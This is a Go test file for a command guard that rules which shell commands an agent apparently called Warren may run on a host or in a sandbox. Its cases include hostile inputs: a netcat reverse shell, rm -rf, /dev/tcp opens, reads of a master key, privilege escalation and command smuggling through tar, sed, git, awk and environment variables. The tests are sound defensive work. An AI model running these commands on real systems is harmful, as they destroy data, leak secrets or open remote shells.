package guard

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestCommand(t *testing.T) {
	t.Parallel()
	ws := t.TempDir()
	data := t.TempDir()
	host := New(Options{Mode: Host, Workspace: ws, DataDir: data})
	box := New(Options{Mode: Sandbox, Workspace: ws})
	for _, tc := range []struct {
		argv      []string
		host, box Decision
		why       string // in the host reason
	}{
		{[]string{"ls", "-la"}, Allow, Allow, ""},
		{[]string{"git", "status"}, Allow, Allow, ""},
		{[]string{"go", "test", "./..."}, Allow, Allow, ""},
		{[]string{"sed", "-n", "1,5p", "x"}, Allow, Allow, ""},
		{[]string{"sed", "-i", "s/a/b/g", "x"}, Allow, Allow, ""},
		{[]string{"rm", "-rf", "victim"}, Deny, Deny, "destructive"},
		{[]string{"env", "rm", "-rf", "victim"}, Deny, Deny, "destructive"},
		{[]string{"find", "victim", "-true", "-delete"}, Deny, Deny, "whole tree"},
		{[]string{"find", ".", "-name", "*.pyc", "-delete"}, Allow, Allow, ""},
		{[]string{"python3", "-c", "print(1)"}, Ask, Allow, "inline code"},
		{[]string{"python3", "--version"}, Allow, Allow, ""},
		{[]string{"python3", "-m", "timeit", "1"}, Ask, Allow, "runs code"},
		{[]string{"node", "--import", "data:text/javascript,1"}, Ask, Allow, "node"},
		{[]string{"nsenter", "-t", "1", "-m", "sh"}, Ask, Allow, "privilege"},
		{[]string{"setpriv", "--reuid=0", "id"}, Ask, Allow, "privilege"},
		{[]string{"/lib64/ld-linux-x86-64.so.2", "/bin/rm", "-rf", "x"}, Ask, Allow, "ld-linux"},
		{[]string{"gdb", "-batch", "-ex", "shell id"}, Ask, Allow, "gdb"},
		{[]string{"tmux", "new", "-d", "id"}, Ask, Allow, "tmux"},
		{[]string{"tar", "--checkpoint=1", "--checkpoint-action=exec=id", "-cf", "/dev/null", "."}, Ask, Allow, "checkpoint-action"},
		{[]string{"tar", "-cf", "/dev/null", "--to-command=id", "."}, Ask, Allow, "to-command"},
		{[]string{"zip", "-T", "-TT", "id", "a.zip", "x"}, Ask, Allow, "-TT"},
		{[]string{"sed", "1e id", "x"}, Ask, Allow, "e command"},
		{[]string{"sed", "s/a/id/e", "x"}, Ask, Allow, "e flag"},
		{[]string{"sed", "-n", "w /tmp/out", "x"}, Ask, Allow, "writes"},
		{[]string{"git", "-c", "core.pager=id", "log"}, Ask, Allow, "-c"},
		{[]string{"git", "rebase", "--exec", "id", "HEAD~1"}, Ask, Allow, "runs a program"},
		{[]string{"curl", "-d", "@x", "http://example.com"}, Ask, Allow, "network"},
		{[]string{"frobnicate", "--all"}, Ask, Allow, "not a program Warren knows"},
		{[]string{"cp", "a", "/etc/x"}, Ask, Allow, "outside the workspace"},
		{[]string{"cp", "/etc/hostname", "x"}, Allow, Allow, ""},
		{[]string{"cat", filepath.Join(data, "master.key")}, Deny, Allow, "data directory"},
		{[]string{"grep", "-r", "key", data + "/"}, Deny, Allow, "data directory"},
		{[]string{"-a", "rm", "busybox"}, Deny, Deny, "option"},
		{[]string{"sudo", "ls"}, Ask, Allow, "sudo"},
		{[]string{"nc", "-e", "/bin/sh", "1.2.3.4", "9"}, Deny, Deny, "reverse shell"},
		{[]string{"bash", "-c", "echo hi"}, Allow, Allow, ""},
		{[]string{"nohup", "bash", "-c", "id"}, Deny, Deny, "shell started through"},
		{[]string{"xargs", "sh", "-c", "id"}, Deny, Deny, "system's xargs"},
		{[]string{"unshare", "-r", "touch", "x"}, Ask, Allow, "unshare"},
		{[]string{"xargs", "rm"}, Deny, Deny, "system's xargs"},
		{[]string{"env", "xargs", "cat"}, Deny, Deny, "system's xargs"},
		{[]string{"go", "generate", "./..."}, Ask, Allow, "go:generate"},
		{[]string{"npx", "cowsay"}, Ask, Allow, "code"},
		{[]string{"awk", "BEGIN{system(\"id\")}"}, Deny, Deny, "system shell"},
		{[]string{"git", "config", "--global", "user.name", "x"}, Ask, Allow, "outside this repository"},
		{[]string{"go", "env", "-w", "GOFLAGS=-mod=mod"}, Ask, Allow, "env -w"},
		{[]string{"npm", "view", "x", "--registry=http://127.0.0.1:9"}, Ask, Allow, "registry"},
		{[]string{"mv", "--target=/etc", "x"}, Ask, Allow, "outside"},
		{[]string{"sqlite3", "/etc/x.db", "create table t(x)"}, Ask, Allow, "outside"},
	} {
		c := Command{Argv: tc.argv, Dir: ws}
		hv, bv := host.Command(c), box.Command(c)
		if hv.Decision != tc.host || bv.Decision != tc.box {
			t.Errorf("%q: host %s (%s), sandbox %s (%s); want %s, %s", tc.argv, hv.Decision, hv.Reason, bv.Decision, bv.Reason, tc.host, tc.box)
			continue
		}
		if tc.why != "" && !strings.Contains(strings.ToLower(hv.Reason), strings.ToLower(tc.why)) {
			t.Errorf("%q: host reason %q lacks %q", tc.argv, hv.Reason, tc.why)
		}
		if hv.Decision == Ask && bv.Decision == Allow && !hv.SandboxRuns {
			t.Errorf("%q: the approval should say the sandbox runs it", tc.argv)
		}
	}
}

// Programs are judged by what they are, not by the name they are run as.
func TestRenamedPrograms(t *testing.T) {
	t.Parallel()
	ws := t.TempDir()
	g := New(Options{Mode: Host, Workspace: ws})
	fake := filepath.Join(ws, "ls")
	if err := os.WriteFile(fake, []byte("\x7fELF"), 0o755); err != nil { //nolint:gosec // a test program
		t.Fatal(err)
	}
	if v := g.Command(Command{Argv: []string{"./ls"}, Dir: ws, Path: fake}); v.Decision != Ask || !strings.Contains(v.Reason, "writable folder") {
		t.Fatalf("a program named ls in the workspace: %+v", v)
	}
	other := t.TempDir()
	link := filepath.Join(other, "cat")
	if err := os.Symlink("/usr/bin/python3", link); err != nil {
		t.Fatal(err)
	}
	g2 := New(Options{Mode: Host, Workspace: ws, TempDirs: []string{}})
	if v := g2.Command(Command{Argv: []string{link, "-c", "1"}, Dir: ws, Path: link}); v.Decision != Ask {
		t.Fatalf("a symlink named cat to python3: %+v", v)
	}
}

func TestEnvironment(t *testing.T) {
	t.Parallel()
	g := New(Options{Mode: Host, Workspace: t.TempDir()})
	for _, env := range []map[string]string{{"PERL5OPT": "-Mevil"}, {"LD_PRELOAD": "/x.so"}, {"BASH_ENV": "/x"}, {"GIT_SSH_COMMAND": "id"}} {
		if v := g.Command(Command{Argv: []string{"ls"}, Env: env}); v.Decision != Ask {
			t.Errorf("%v: %+v", env, v)
		}
	}
	if v := g.Command(Command{Argv: []string{"ls"}, Env: map[string]string{"FOO": "1"}}); v.Decision != Allow {
		t.Errorf("FOO: %+v", v)
	}
}

func TestOpen(t *testing.T) {
	t.Parallel()
	ws, data := t.TempDir(), t.TempDir()
	host := New(Options{Mode: Host, Workspace: ws, DataDir: data})
	box := New(Options{Mode: Sandbox, Workspace: ws})
	home, _ := os.UserHomeDir()
	for _, tc := range []struct {
		dir, path string
		write     bool
		host, box Decision
	}{
		{ws, "out.txt", true, Allow, Allow},
		{ws, "/dev/null", true, Allow, Allow},
		{ws, "/tmp/x", true, Allow, Allow},
		{ws, "/dev/tcp/127.0.0.1/9", false, Deny, Deny},
		{ws, "/dev/udp/10.0.0.1/53", true, Deny, Deny},
		{ws, "/dev/sda", true, Deny, Deny},
		{ws, filepath.Join(home, ".bashrc"), true, Ask, Allow},
		{ws, "/etc/hostname", false, Allow, Allow},
		{ws, filepath.Join(data, "master.key"), false, Deny, Allow},
		{data, "master.key", false, Deny, Allow},
	} {
		hv, bv := host.Open(tc.dir, tc.path, tc.write), box.Open(tc.dir, tc.path, tc.write)
		if hv.Decision != tc.host || bv.Decision != tc.box {
			t.Errorf("open %s (write %v): host %s (%s), sandbox %s; want %s, %s", tc.path, tc.write, hv.Decision, hv.Reason, bv.Decision, tc.host, tc.box)
		}
	}
}

func TestSedScripts(t *testing.T) {
	t.Parallel()
	for script, runs := range map[string]bool{
		"s/a/b/g": false, "1,5p": false, `/^#/d`: false, `s|/x|/y|`: false, "$a\\\ntext": false, "y/abc/xyz/": false,
		"1e id": true, "s/x/id/e": true, "w out": true, "s/x/y/w out": true, "/re/ e": true, `\%x%e`: true, "s/unterminated": true,
	} {
		if got := sedRuns(script) != ""; got != runs {
			t.Errorf("sed %q: runs %v, want %v (%s)", script, got, runs, sedRuns(script))
		}
	}
}

func TestClassOf(t *testing.T) {
	t.Parallel()
	for name, want := range map[string]Class{
		"ls": ReadOnly, "/usr/bin/git": Build, "python3.12": CodeRunner, "php8.2": CodeRunner, "node20": CodeRunner,
		"ld-linux-x86-64.so.2": Privilege, "ld-2.36.so": Privilege, "gcc-12": Build, "GIT.EXE": Build, "zork": Unknown,
		"bash": Shell, "pythonista": Unknown,
	} {
		if got := ClassOf(name); got != want {
			t.Errorf("ClassOf(%q) = %s, want %s", name, got, want)
		}
	}
}

func TestWritersAndSymlinkedTools(t *testing.T) {
	t.Parallel()
	ws := t.TempDir()
	g := New(Options{Mode: Host, Workspace: ws, TempDirs: []string{}})
	for _, tc := range []struct {
		argv []string
		want Decision
	}{
		{[]string{"tee", "out.txt"}, Allow},
		{[]string{"tee", "-a", "/etc/x"}, Ask},
		{[]string{"awk", "{print $1}"}, Allow},
		{[]string{"awk", `{print $1 > "/etc/x"}`}, Ask},
		{[]string{"awk", "$3 > 100 {print $1}"}, Allow},
		{[]string{"awk", `{printf("%s",$1)>>"f"}`}, Ask},
	} {
		if v := g.Command(Command{Argv: tc.argv, Dir: ws}); v.Decision != tc.want {
			t.Errorf("%q: %s (%s), want %s", tc.argv, v.Decision, v.Reason, tc.want)
		}
	}
	// npm is a symlink to npm-cli.js: an unknown real name does not make a
	// known tool ask.
	dir := t.TempDir()
	real := filepath.Join(dir, "npm-cli.js")
	if err := os.WriteFile(real, []byte("#!/usr/bin/env node\n"), 0o755); err != nil { //nolint:gosec // a test program
		t.Fatal(err)
	}
	link := filepath.Join(dir, "npm")
	if err := os.Symlink(real, link); err != nil {
		t.Fatal(err)
	}
	if v := g.Command(Command{Argv: []string{"npm", "test"}, Dir: ws, Path: link}); v.Decision != Allow {
		t.Errorf("npm test through a symlink to npm-cli.js: %+v", v)
	}
}

// A link's relative target is read from the link's folder.
func TestLinkIntoDataDir(t *testing.T) {
	t.Parallel()
	base := t.TempDir()
	ws, data := filepath.Join(base, "ws"), filepath.Join(base, "data")
	for _, d := range []string{filepath.Join(ws, "x"), data} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	g := New(Options{Mode: Host, Workspace: ws, DataDir: data})
	if v := g.Command(Command{Argv: []string{"ln", "-s", "../../data", "x/d"}, Dir: ws}); v.Decision != Deny {
		t.Fatalf("ln -s ../../data x/d: %+v", v)
	}
	if v := g.Command(Command{Argv: []string{"ln", "-s", "../notes", "x/n"}, Dir: ws}); v.Decision != Allow {
		t.Fatalf("ln -s ../notes x/n: %+v", v)
	}
}

// A copy, hard link or #! script in the workspace is judged as what really
// runs, in both modes.
func TestDisguisedPrograms(t *testing.T) {
	t.Parallel()
	ws := t.TempDir()
	copyFile := func(from, to string) {
		t.Helper()
		b, err := os.ReadFile(from)
		if err != nil {
			t.Skipf("%s not installed: %v", from, err)
		}
		if err := os.WriteFile(filepath.Join(ws, to), b, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	copyFile("/bin/rm", "zap")
	if err := os.WriteFile(filepath.Join(ws, "b.awk"), []byte("#!/usr/bin/awk -f\nBEGIN { system(\"rm -rf victim\") }\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Link(filepath.Join(ws, "zap"), filepath.Join(ws, "zap2")); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		argv          []string
		host, sandbox Decision
		reason        string
	}{
		{[]string{"./zap", "-rf", "/"}, Deny, Deny, "runs as rm"},
		{[]string{"./zap2", "-rf", "/"}, Deny, Deny, "runs as rm"},
		{[]string{"./b.awk"}, Deny, Deny, "system shell"},
	} {
		for _, mode := range []Mode{Host, Sandbox} {
			g := New(Options{Mode: mode, Workspace: ws, TempDirs: []string{}})
			v := g.Command(Command{Argv: tc.argv, Dir: ws, Path: filepath.Join(ws, tc.argv[0])})
			want := tc.host
			if mode == Sandbox {
				want = tc.sandbox
			}
			if v.Decision != want || (want != Allow && !strings.Contains(v.Reason, tc.reason)) {
				t.Errorf("%v mode %v: %v %q; want %v with %q", tc.argv, mode, v.Decision, v.Reason, want, tc.reason)
			}
		}
	}
}

// A link planted in the workspace earlier is followed by grep -R & co.
func TestLinkFollowingReadersStayOutOfTheDataDir(t *testing.T) {
	t.Parallel()
	ws, data, other := t.TempDir(), t.TempDir(), t.TempDir()
	if err := os.MkdirAll(filepath.Join(ws, "a", "b"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(data, filepath.Join(ws, "a", "b", "d")); err != nil {
		t.Fatal(err)
	}
	g := New(Options{Mode: Host, Workspace: ws, DataDir: data})
	for _, tc := range []struct {
		argv []string
		want Decision
	}{
		{[]string{"grep", "-R", "x", "."}, Deny},
		{[]string{"grep", "-R", "x"}, Deny},
		{[]string{"grep", "-rIR", "x", "a"}, Deny},
		{[]string{"find", "-L", ".", "-name", "k"}, Deny},
		{[]string{"cp", "-rL", "a", "copy"}, Deny},
		{[]string{"grep", "-r", "x", "."}, Allow}, // -r does not follow links inside folders
		{[]string{"grep", "-R", "x", other}, Allow},
	} {
		if v := g.Command(Command{Argv: tc.argv, Dir: ws}); v.Decision != tc.want {
			t.Errorf("%q: %v (%s), want %v", tc.argv, v.Decision, v.Reason, tc.want)
		}
	}
}
